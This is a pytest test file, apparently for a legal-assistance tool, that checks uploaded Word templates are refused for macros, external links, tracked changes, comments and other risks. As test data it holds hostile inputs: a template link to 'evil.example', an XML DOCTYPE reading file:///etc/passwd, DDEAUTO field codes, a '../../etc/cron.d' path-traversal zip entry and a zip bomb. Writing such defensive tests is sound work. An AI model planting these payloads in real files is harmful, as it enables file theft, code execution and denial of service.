"""What is refused before a template is looked at, each with one clear reason and its place."""

import io
import zipfile
from contextlib import suppress

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mla_assistant.documents.package import read
from mla_assistant.documents.problem import TemplateRefused
from tests.documents.word import changed, docx, replaced

TYPES, RELATIONS, BODY = "[Content_Types].xml", "word/_rels/document.xml.rels", "word/document.xml"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def code_of(data: bytes) -> str:
    with pytest.raises(TemplateRefused) as refused:
        read(data, "extradition")
    problem = refused.value.problems[0]
    assert problem.place.document == "extradition"
    assert "Traceback" not in str(problem)
    return problem.code


def relation(kind: str, target: str, mode: str = "Internal", of: str = OFFICE) -> bytes:
    line = f'<Relationship Id="rIdX" Type="{of}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    return replaced(docx(["Text"]), "</Relationships>", line, RELATIONS)


def test_an_ordinary_word_file_is_accepted() -> None:
    """Otherwise nobody could bring a template at all."""
    package = read(docx(["Text"], footer="Page [PAGE] of [NUMPAGES]"), "extradition")
    assert BODY in package.parts
    assert not any(name.startswith("docProps") for name in package.parts)


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("attachedTemplate", "http://evil.example/t.dotm"),
        ("image", "http://evil.example/track.png"),
        ("hyperlink", "https://example.org"),
        ("oleObject", "file:///c:/x"),
    ],
)
def test_a_link_that_leaves_the_file_is_refused(kind: str, target: str) -> None:
    """A document that calls home tells an outsider who reads it and when."""
    assert code_of(relation(kind, target, "External")) == "external_link"


def test_macros_are_refused() -> None:
    """A template from another office must not run anything on the receiver's machine."""
    assert code_of(relation("vbaProject", "vbaProject.bin", of="http://schemas.microsoft.com/office/2006")) == "macro"
    assert code_of(changed(docx(["x"]), lambda parts: parts.update({"word/vbaProject.bin": b"x"}))) == "macro"


def test_a_macro_enabled_file_is_refused() -> None:
    """Renaming .docm to .docx must not help."""
    word = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    macro = "application/vnd.ms-word.document.macroEnabled.main+xml"
    assert code_of(replaced(docx(["x"]), word, macro, TYPES)) == "embedded"


def test_embedded_files_are_refused() -> None:
    """altChunk and OLE bring in content nobody has read."""
    assert code_of(relation("aFChunk", "chunk.html")) == "embedded"
    assert code_of(replaced(docx(["x"]), "<w:sectPr", "<w:altChunk/><w:sectPr")) == "embedded"


@pytest.mark.parametrize("xml", ["<w:ins/>", "<w:moveTo/>", "<w:r><w:rPr><w:rPrChange/></w:rPr></w:r>"])
def test_tracked_changes_are_refused_with_their_paragraph(xml: str) -> None:
    """They name their author, and a tag across one loses paragraphs without a word."""
    with pytest.raises(TemplateRefused) as refused:
        read(replaced(docx(["one", "two"]), "<w:t>two</w:t></w:r>", f"<w:t>two</w:t></w:r>{xml}"), "extradition")
    problem = refused.value.problems[0]
    assert (problem.code, problem.place.paragraph, problem.place.text) == ("tracked_change", 2, "two")


def test_comments_are_refused() -> None:
    """Internal remarks must not travel to another State."""
    assert code_of(replaced(docx(["x"]), "</w:r>", '</w:r><w:commentRangeStart w:id="0"/>')) == "comment"


MICROSOFT = "http://schemas.microsoft.com/office"


@pytest.mark.parametrize(
    ("kind", "of"),
    [
        ("people", f"{MICROSOFT}/2011/relationships"),
        ("comments", OFFICE),
        ("commentsExtended", f"{MICROSOFT}/2011/relationships"),
        ("commentsIds", f"{MICROSOFT}/2016/09/relationships"),
        ("commentsExtensible", f"{MICROSOFT}/2018/08/relationships"),
        ("documenttasks", f"{MICROSOFT}/2019/05/relationships"),
        ("intelligence", f"{MICROSOFT}/2020/10/relationships"),
        ("glossaryDocument", OFFICE),
        ("customXml", OFFICE),
    ],
)
def test_what_word_keeps_for_itself_is_left_behind_in_silence(kind: str, of: str) -> None:
    """Else a file whose comments are all deleted is refused for a part that nobody can see in Word."""
    data = changed(relation(kind, "left.xml", of=of), lambda parts: parts.update({"word/left.xml": b"<x>Mary</x>"}))
    package = read(data, "extradition")
    assert "word/left.xml" not in package.parts
    assert "left.xml" not in str(package.relations)


def test_a_part_that_nobody_sees_is_refused_with_the_way_to_be_rid_of_it() -> None:
    """Else the office has a file that it can't mend."""
    with pytest.raises(TemplateRefused, match="Inspect Document"):
        read(relation("novelty", "novelty.xml", of=f"{MICROSOFT}/2031/relationships"), "extradition")


@pytest.mark.parametrize("field", ["DDEAUTO", "INCLUDETEXT c:/x", "HYPERLINK http://x", "PAGE DDEAUTO"])
def test_fields_that_fetch_are_refused(field: str) -> None:
    """A DDEAUTO field runs a program when the receiver opens the request."""
    data = docx(["x"], footer="[PAGE]")
    assert code_of(replaced(data, ">PAGE<", f">{field}<", "word/footer1.xml")) == "field_code"


def test_a_field_code_cut_over_runs_is_still_seen() -> None:
    """Cutting DDEAUTO in two must not hide it."""
    cut = ">DDE</w:instrText></w:r><w:r><w:instrText>AUTO<"
    assert code_of(replaced(docx(["x"], footer="[PAGE]"), ">PAGE<", cut, "word/footer1.xml")) == "field_code"


@pytest.mark.parametrize("declaration", ['<!DOCTYPE x [<!ENTITY a "b">]>', '<!DOCTYPE x SYSTEM "file:///etc/passwd">'])
def test_a_document_type_is_refused(declaration: str) -> None:
    """Entities read files, or blow up to gigabytes."""
    assert code_of(replaced(docx(["x"]), "<w:document", f"{declaration}<w:document")) == "dtd"


def test_utf_16_does_not_smuggle_a_document_type_past_the_check() -> None:
    """The check reads the text, so the text must be in the encoding it reads."""
    data = changed(docx(["x"]), lambda parts: parts.update({BODY: '<?xml version="1.0"?><x/>'.encode("utf-16")}))
    assert code_of(data) == "encoding"


def test_a_zip_bomb_is_refused_before_it_is_unpacked() -> None:
    """40 KB that unpack to 40 MB would stop the machine of every office that opens them."""
    assert code_of(changed(docx(["x"]), lambda parts: parts.update({"word/x.xml": b"0" * 40_000_000}))) == "zip_bomb"


def zipped(*names: str) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name in names:
            archive.writestr(name, b"x")
    return file.getvalue()


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"no zip at all", "not_zip"),
        (b"", "not_zip"),
        (zipped("a.txt"), "not_word"),
        (zipped("../../etc/cron.d/x"), "part_name"),
        (zipped("/word/document.xml"), "part_name"),
        (zipped("word\\document.xml"), "part_name"),
        (zipped("Word/a.xml", "word/A.xml"), "duplicate_part"),
        (zipped(*(f"{n}.xml" for n in range(201))), "too_large"),
    ],
    ids=["text", "empty", "no document", "upwards", "absolute", "backslash", "twice", "many"],
)
def test_a_file_that_is_no_word_document_is_refused(data: bytes, code: str) -> None:
    """One sentence instead of a crash."""
    assert code_of(data) == code


@pytest.mark.parametrize("packing", [zipfile.ZIP_LZMA, zipfile.ZIP_BZIP2])
def test_a_part_packed_in_a_way_that_word_never_packs_is_refused(packing: int) -> None:
    """A damaged one would end the program with an error of a library nobody has heard of."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", packing) as archive:
        archive.writestr(BODY, b"<x/>" * 100)
    data = bytearray(out.getvalue())
    data[60:64] = b"\xff" * 4
    assert code_of(bytes(data)) == "packed_otherwise"


def test_xml_that_is_cut_off_is_refused() -> None:
    """A damaged template must not become a damaged request."""
    assert code_of(replaced(docx(["x"]), "</w:document>", "")) == "xml"


def test_deep_nesting_is_refused() -> None:
    """A parser that recurses would take the program down with it."""
    deep = b"<a>" * 600 + b"</a>" * 600
    assert code_of(changed(docx(["x"]), lambda parts: parts.update({BODY: deep}))) == "xml"


GOOD = docx(["Text {{ case.reference }}"], footer="[PAGE]")


@settings(max_examples=300, deadline=None)
@given(st.lists(st.tuples(st.integers(0, len(GOOD) - 1), st.integers(0, 255)), min_size=1, max_size=6))
def test_a_damaged_file_is_refused_in_words_and_never_crashes(changes: list[tuple[int, int]]) -> None:
    """A memory stick that drops bits must not end in a traceback."""
    damaged = bytearray(GOOD)
    for at, value in changes:
        damaged[at] = value
    with suppress(TemplateRefused):
        read(bytes(damaged), "extradition")


def test_a_hundred_problems_are_enough() -> None:
    """A small file with thousands of tracked changes would keep the office waiting for a minute."""
    many = "".join(f"<w:p><w:r><w:t>{n * 7919 % 9973}</w:t></w:r><w:ins/></w:p>" for n in range(8000))
    with pytest.raises(TemplateRefused) as refused:
        read(replaced(docx(["one"]), "<w:sectPr", many + "<w:sectPr"), "extradition")
    assert [problem.place.paragraph for problem in refused.value.problems] == list(range(2, 102))


def test_every_problem_is_told_at_once() -> None:
    """Mending one, only to be shown the next, costs a working day."""
    data = replaced(docx(["one", "two"]), "<w:t>one</w:t></w:r>", "<w:t>one</w:t></w:r><w:ins/>")
    data = replaced(data, "<w:t>two</w:t></w:r>", '<w:t>two</w:t></w:r><w:commentRangeStart w:id="0"/>')
    with pytest.raises(TemplateRefused) as refused:
        read(data, "extradition")
    assert [problem.code for problem in refused.value.problems] == ["tracked_change", "comment"]
